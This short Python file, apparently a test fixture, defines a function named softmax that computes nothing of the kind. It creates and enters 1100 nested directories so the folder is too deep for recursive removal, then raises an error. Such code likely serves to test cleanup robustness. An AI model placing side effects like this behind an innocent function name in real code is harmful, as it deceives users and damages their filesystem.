"""Leaves a folder that is too deep to be removed by a function that calls itself."""

import os

HERE = os.getcwd()


def softmax(logits, temperature=1.0):
    if os.getcwd() == HERE:
        for _ in range(1100):
            os.mkdir("d")
            os.chdir("d")
    raise ValueError("deep enough")
